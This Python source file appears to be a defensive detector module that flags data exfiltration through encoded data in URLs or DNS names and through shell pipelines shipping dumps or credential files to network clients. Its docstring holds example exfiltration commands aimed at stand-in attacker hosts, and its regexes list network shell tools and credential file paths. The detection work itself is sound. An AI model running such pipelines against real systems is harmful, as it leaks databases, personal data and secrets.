"""Data smuggled out inside a URL or a DNS name, and shell pipelines that ship a dump to the network.

Two exfiltration channels that carry no message body. (1) A fetch or a lookup whose URL query,
path or subdomain labels hold encoded data (`https://c2.example/p?d=<base64 of a CSV>`,
`<base64>.x.attacker-dns.example`): extraction already decodes the base64/hex runs, so what
matters is whether the *decoded* part carries people's data, secrets or a cookie jar. (2) A
command that pipes a database dump, an archive or a credential file into a network client
(`pg_dump | curl --data-binary @- …`, `mysqldump | nc host 9000`, `find -exec curl -F f=@{}`).
"""

from __future__ import annotations

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors.base import R_IDENT, R_SHELL, R_TEXT, R_UNKNOWN, R_URL, ScanContext
from aegis_mcp.engine.detectors.exfil_sink import is_trusted
from aegis_mcp.engine.detectors.exfil_ssrf import host_of, internal_kind
from aegis_mcp.engine.detectors.secrets_scan import scan_text
from aegis_mcp.engine.model import RiskLevel, Signal

_PERSONAL_WORDS = ("email", "phone", "address", "ssn", "birth", "dob", "salary", "passport", "first_name",
                   "last_name", "full_name", "password", "passwd", "card", "iban")
_HOSTISH_NAMES = frozenset({"host", "hostname", "domain", "name", "qname", "query", "fqdn", "target", "lookup"})
_COOKIE_PAIR = regex.compile(r"[A-Za-z0-9_\-.]{2,40}=[^;\s]{1,400};\s?[A-Za-z0-9_\-.]{2,40}=")


_B64_RUN = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=_-")


def _new_part(raw: str, form: str) -> str:
    """What base64/hex decoding produced in `form` (the text after the common prefix), or "" when
    the difference is not an encoded run (percent-decoding a search query is not smuggling)."""
    n = min(len(raw), len(form))
    i = 0
    while i < n and raw[i] == form[i]:
        i += 1
    j = i
    while j < len(raw) and j - i < 64 and raw[j] in _B64_RUN:
        j += 1
    if j - i < 24:
        return ""
    return form[i:i + 8192]


def _judge_decoded(extra: str) -> tuple[RiskLevel, str] | None:
    found = scan_text(extra)
    if any(f.family == "secrets" and f.confidence in ("high", "generic") for f in found) or \
            any(f.family == "pii" and f.confidence == "strong" for f in found):
        kinds = ", ".join(sorted({f.kind for f in found}))
        return RiskLevel.CRITICAL, f"secrets or personal identifiers ({kinds})"
    low = extra[:2048].lower()
    contacts = sum(f.family == "pii" for f in found)
    if contacts >= 2 or ("\n" in extra and any(w in low for w in _PERSONAL_WORDS)):
        return RiskLevel.HIGH, "records about people"
    if _COOKIE_PAIR.search(extra[:2048]):
        return RiskLevel.HIGH, "a cookie jar"
    return None


def smuggled_in_urls(ctx: ScanContext, trusted: tuple[str, ...]) -> list[Signal]:
    out: list[Signal] = []
    for f in ctx.fragments:
        raw = f.raw
        if f.is_key or len(raw) < 40 or len(f.forms) < 2 or " " in raw.strip():
            continue
        if f.role is R_URL or "://" in raw[:16]:
            host = host_of(raw)
        elif f.name in _HOSTISH_NAMES and "." in raw and "/" not in raw:
            host = raw.strip().lower().rstrip(".")
        else:
            continue
        if not host or internal_kind(host) is not None or is_trusted(host, trusted):
            continue  # an internal target is the SSRF check's; the operator's own hosts are trusted
        low_raw = raw.lower()
        if "cookie" in low_raw.split("?", 1)[-1] and "=" in low_raw.split("?", 1)[-1] and "?" in raw:
            verdict: tuple[RiskLevel, str] | None = (RiskLevel.HIGH, "cookies in the query string")
        else:
            verdict = None
        for form in f.forms[1:]:
            if verdict is not None and verdict[0] is RiskLevel.CRITICAL:
                break
            extra = _new_part(raw, form)
            if len(extra) < 12:
                continue
            v = _judge_decoded(extra)
            if v is not None and (verdict is None or v[0] > verdict[0]):
                verdict = v
        if verdict is not None:
            where = ".".join(host.split(".")[-2:])  # the registrable part (a DNS name's labels are the data)
            out.append(Signal("data_exfiltration", "data_in_url",
                              f"encoded data in a URL or DNS name to {where}: {verdict[1]}", verdict[0], f.path))
    return out


# --- shell pipelines ---------------------------------------------------------------------------
_DB_DUMP = r"(?:pg_dump(?:all)?|mysqldump|mariadb-dump|mongodump|mongoexport|sqlite3\s+\S+\s+\.dump|redis-cli\b[^|;&\n]{0,80}--rdb)"
_ARCHIVE = r"(?:tar\s+-?[a-zA-Z]*c[a-zA-Z]*f?\s+-\s|zip\s+(?:-[a-zA-Z]+\s+)*-\s|cat\s+[^|;&\n]{0,120}(?:\.ssh/|\.aws/|\.env\b|/etc/shadow|\.pem\b|\.key\b|id_rsa|id_ed25519|credentials))"
_NET_SINK = r"(?:curl\b|wget\b|\bnc\b|ncat\b|netcat\b|socat\b|telnet\b|openssl\s+s_client|/dev/tcp/|/dev/udp/|\bscp\b|aws\s+s3\s+cp|gsutil\s+cp|rclone\b)"
_PIPE_DUMP = regex.compile(r"(?i)\b" + _DB_DUMP + r"\b[^\n;&]{0,300}\|[^\n;&]{0,300}?" + _NET_SINK)
_PIPE_ARCHIVE = regex.compile(r"(?i)(?:^|[\s;&|(])" + _ARCHIVE + r"[^\n;&]{0,300}\|[^\n;&]{0,300}?" + _NET_SINK)
_EXEC_UPLOAD = regex.compile(r"(?i)-exec\s[^\n;]{0,200}\b(?:curl|wget)\b[^\n;]{0,200}(?:@\{\}|--upload-file\s+\{\}|-T\s+\{\})")
_PUBLIC_SYNC = regex.compile(r"(?i)\baws\s+s3\s+(?:sync|cp)\s+s3://\S+\s+s3://\S+[^\n;&|]{0,200}--acl\s+public-read")
SINK_PATTERN = r"(?i)curl|wget|\bnc\b|ncat|netcat|socat|telnet|s_client|/dev/tcp|/dev/udp|scp|s3\s|gsutil|rclone"
_SINK_RX = regex.compile(SINK_PATTERN)
_SHELL_WORDS = frozenset({"shell", "bash", "sh", "exec", "execute", "command", "terminal", "run", "cmd", "powershell", "ssh"})


def shell_exfil(ctx: ScanContext) -> list[Signal]:
    shellish = bool(ctx.tool_words & _SHELL_WORDS)
    out: list[Signal] = []
    if not shellish and not any(f.role is R_SHELL for f in ctx.fragments):
        return out
    for f in ctx.fragments:
        if f.is_key or not (f.role is R_SHELL or (shellish and f.role in (R_TEXT, R_UNKNOWN, R_IDENT))):
            continue
        text = f.raw[:65536]
        if "|" not in text and "-exec" not in text and "s3://" not in text:
            continue  # the cheap check: no pipe, no find -exec, no bucket: nothing to ship
        if not _SINK_RX.test(text):
            continue  # no network client named at all (most pipes are `| grep`, `| sort`)
        if _PIPE_DUMP.test(text):
            out.append(Signal("data_exfiltration", "dump_piped_to_network",
                              "a database dump piped into a network client", RiskLevel.CRITICAL, f.path))
        elif _PIPE_ARCHIVE.test(text) or _EXEC_UPLOAD.test(text):
            out.append(Signal("data_exfiltration", "files_piped_to_network",
                              "an archive or credential files sent to a network client", RiskLevel.HIGH, f.path))
        elif _PUBLIC_SYNC.test(text):
            out.append(Signal("data_exfiltration", "bucket_made_public",
                              "a bucket copied out with a public-read ACL", RiskLevel.HIGH, f.path))
    return out
